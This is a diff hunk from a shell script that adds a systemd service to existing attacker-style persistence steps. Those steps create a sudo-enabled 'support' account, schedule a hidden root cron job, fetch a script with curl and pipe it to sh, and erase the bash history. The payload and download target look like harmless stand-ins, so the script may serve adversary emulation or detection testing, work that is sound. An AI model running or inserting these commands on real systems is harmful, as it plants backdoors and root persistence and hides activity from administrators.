@@ -55,6 +55,7 @@ else
   run "sudo useradd -m -s /bin/bash support-$tag"
   run "sudo usermod -aG sudo support-$tag"
   run "echo '*/5 * * * * root /var/tmp/.cache-update' | sudo tee /etc/cron.d/update-$tag"
+  run "printf '[Service]\\nExecStart=/var/tmp/.cache-update\\n' | sudo tee /etc/systemd/system/update-$tag.service"
   run "cp /usr/bin/id /var/tmp/.cache-update && /var/tmp/.cache-update"
   run "bash -c 'curl -fsS http://127.0.0.1:9/update.sh?$tag | sh'"
   run "rm -f ~/.bash_history"
